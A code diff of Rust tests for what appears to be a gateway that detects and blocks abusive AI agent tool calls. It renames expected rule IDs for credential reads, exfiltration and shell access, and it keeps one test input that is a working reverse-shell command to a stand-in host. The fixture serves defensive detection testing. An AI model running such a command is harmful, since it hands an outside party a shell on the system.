@@ -42,10 +42,8 @@ fn tool_call_findings_are_complete_and_masked() {
     assert_eq!(body["decision"], "block", "{body}");
     let ids = rule_ids(&body);
     for want in [
-        "tool.capability.shell",
-        "tool.path.credential_access",
-        "tool.egress.denied_host",
-        "tool.cmd.exfiltration",
+        "tool.effect.credential_read",
+        "tool.effect.exfiltration",
         "secret.github_pat",
     ] {
         assert!(ids.iter().any(|i| i == want), "missing {want} in {ids:?}");
@@ -112,11 +110,11 @@ fn findings_are_counted_by_rule_family() {
         &json!({"tool_name": "shell", "tool_target": "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"}),
     );
     assert_eq!(resp.status, 200);
-    assert!(rule_ids(&resp.json()).contains(&"tool.cmd.reverse_shell".to_string()));
+    assert!(rule_ids(&resp.json()).contains(&"tool.effect.shell".to_string()));
     let count = gw
         .metric_value(
             "asg_findings_total",
-            &[("detector", "tool_abuse"), ("family", "tool.cmd")],
+            &[("detector", "tool_abuse"), ("family", "tool.effect")],
         )
         .unwrap_or(0.0);
     assert!(count >= 1.0, "{}", gw.metrics_text());
